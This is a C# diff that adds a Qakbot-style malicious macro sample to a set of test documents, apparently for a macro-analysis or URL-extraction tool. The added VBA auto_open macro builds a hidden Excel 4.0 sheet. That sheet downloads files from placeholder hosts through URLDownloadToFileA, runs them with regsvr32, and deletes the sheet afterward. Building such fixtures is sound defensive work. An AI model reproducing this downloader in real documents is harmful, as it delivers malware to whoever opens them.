@@ -9,7 +9,7 @@ internal static class MacroDocuments
 {
     public static IEnumerable<DocumentSample> All() =>
     [
-        WmiFiveUrls(), FormCaptions(), Properties(), Variables(), AlternativeTexts(), BodyText(), DownloadAndShell(), DroppedApplication(), Browser(), Task(), Arrays(), Classes(), BatchByPrint(), Declared(), ControlTips(),
+        WmiFiveUrls(), FormCaptions(), Properties(), Variables(), AlternativeTexts(), BodyText(), DownloadAndShell(), DroppedApplication(), Browser(), Task(), Arrays(), Classes(), BatchByPrint(), Declared(), ControlTips(), SheetByMacro(),
     ];
 
     private static byte[] Utf16(string text) => Encoding.Unicode.GetBytes(text);
@@ -389,5 +389,41 @@ internal static class MacroDocuments
 
                 """"");
         return new("control-tips.docm", "2020, Ursnif in Italy: a form shows itself, its own events run; tips and tags of controls hold the command.", OfficePackage.Word("", macros: true).Macros(project.ToBin()).ToBytes(), urls);
+    }
+
+    private static DocumentSample SheetByMacro()
+    {
+        string[] urls = ["http://one.example/sept/44494.dat", "https://two.example/sept/44494.dat"];
+        return new("sheet-by-macro.xls", "October and November 2021, Qakbot: VBA adds a sheet of Excel 4.0 macros, writes their formulas into it and runs them from there.", MacroDocument.Xls([("ThisWorkbook", "Attribute VB_Name = \"ThisWorkbook\"\r\n"), ("Module1", """""
+            Attribute VB_Name = "Module1"
+            Sub auto_open()
+                On Error Resume Next
+                Application.ScreenUpdating = False
+                Set Fera = Excel4IntlMacroSheets
+                Fera.Add.Name = "Drez" & "den"
+                Sheets("Drezden").Visible = False
+                Sheets("Drezden").Range("A1:M100").Font.Color = vbWhite
+                Sheets("Drezden").Range("H24") = "http://one." & "example/sept/"
+                Sheets("Drezden").Range("H25") = "https://two." & "example/sept/"
+                Sheets("Drezden").Range("K17") = "=INT(NOW())"
+                Sheets("Drezden").Range("K18") = ".d" & "at"
+                Sheets("Drezden").Range("I9") = "uRlMon"
+                Sheets("Drezden").Range("I10") = "URLDown" & "loadToFileA"
+                Sheets("Drezden").Range("I11") = "JJCCBB"
+                Sheets("Drezden").Range("I12") = "Byukilos"
+                Sheets("Drezden").Range("G10") = "..\Drezd.red"
+                Sheets("Drezden").Range("G11") = "..\Drezd1.red"
+                Sheets("Drezden").Range("I17") = "regsvr32 -silent ..\Drezd.red"
+                Sheets("Drezden").Range("H9") = "=" & "REGISTER(I9,I10,I11,I12,,1,9)"
+                Sheets("Drezden").Range("H10") = "=" & "Byukilos(0,H24&K17&K18,G10,0,0)"
+                Sheets("Drezden").Range("H11") = "=" & "Byukilos(0,H25&K17&K18,G11,0,0)"
+                Sheets("Drezden").Range("H17") = "=" & "EXEC(I17)"
+                Sheets("Drezden").Range("H22") = "=HALT()"
+                Application.Run Sheets("Drezden").Range("H1")
+                Application.DisplayAlerts = False
+                Sheets("Drezden").Delete
+            End Sub
+
+            """"")], [("Sheet1", 0, 0)]), urls);
     }
 }
